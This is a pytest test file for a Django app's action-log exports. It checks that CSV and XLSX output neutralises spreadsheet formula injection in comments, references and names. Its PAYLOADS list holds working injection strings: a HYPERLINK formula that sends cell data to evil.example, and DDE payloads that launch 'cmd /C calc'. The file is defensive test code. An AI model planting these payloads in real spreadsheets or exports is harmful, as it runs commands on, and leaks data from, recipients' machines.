"""Exports never carry a formula (issue 11, item 1: CSV/formula injection).

The attack: anyone holding an emailed update link, no account needed, saves a comment
that a spreadsheet would run, and the public export goes into the agenda pack.
"""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from boards.importers.action_log import read_log
from boards.models import Person
from boards.services.links import make_token
from boards.spreadsheet_cells import FORMULA_STARTS, safe_text, text_from_safe

pytestmark = pytest.mark.django_db

SLUG = "small-board"  # tests/board_world.py: Olu Officer is an officer of 201(b)
PAYLOADS = [
    '=HYPERLINK("https://evil.example/?d="&A2,"Click for the papers")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def save_through_the_emailed_link(client, action, comment):
    client.get(reverse("boards:link", args=[make_token(Person.objects.get(name="Olu Officer"))]))
    action.refresh_from_db()
    amber = action.board.rag_key.statuses.get(code="AMBER")
    response = client.post(
        reverse("boards:link_update", args=[action.pk]),
        {"status": amber.pk, "comment": comment, "version": action.version},
    )
    assert response.status_code == 302, response.content.decode()[:500]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_comment_saved_from_an_emailed_link_is_never_a_formula_in_the_exports(client, small_board, payload):
    action = small_board.action("201(b)")
    save_through_the_emailed_link(client, action, payload)
    action.refresh_from_db()
    stored = action.latest_comment
    assert stored.lstrip("\t\r").startswith(("=", "+", "-", "@"))  # kept as typed (stripped ends)

    # CSV: no cell begins with a formula character unless neutralised by the apostrophe.
    body = client.get(f"/boards/{SLUG}/actions/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)], cells
    assert "'" + stored in cells

    # XLSX: no cell is a formula, in the sheet's XML or as openpyxl reads it; the comment
    # is text with Excel's quote prefix, so editing the cell does not make it one either.
    data = client.get(f"/boards/{SLUG}/actions/export.xlsx").content
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name)
    workbook = load_workbook(io.BytesIO(data))
    found = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value == stored:
                    found.append(cell)
    assert found and all(cell.quotePrefix for cell in found)


def test_every_column_is_neutralised_not_only_comments(client, small_board):
    """A clerk's text, a reference and an officer's name: every cell goes through the same rule."""
    from boards.services.updating import Actor, change

    action = small_board.action("201(b)")
    change(action, actor=Actor(via="system"), description="=1+1 description", reference="-201(b)")
    Person.objects.filter(name="Olu Officer").update(name="@Olu Officer")
    body = client.get(f"/boards/{SLUG}/actions/export.csv").content.decode("utf-8-sig")
    cells = [cell for row in csv.reader(io.StringIO(body, newline="")) for cell in row]
    assert {"'=1+1 description", "'-201(b)"} <= set(cells)
    assert any(c.startswith("'@Olu Officer") for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_STARTS)]


def test_the_csv_export_reads_back_as_written():
    """Importing our own export gives back the text, without the apostrophe."""
    for payload in PAYLOADS + ["'quoted already", "plain", "-"]:
        assert text_from_safe(safe_text(payload)) == payload
    data = b"No.,Date,Action,Comments\r\n1(a),17/11/16,\"'=1+1\",'-started\r\n"
    table = read_log(data, "log.csv")
    assert table.rows[0].cells[2:] == ("=1+1", "-started")
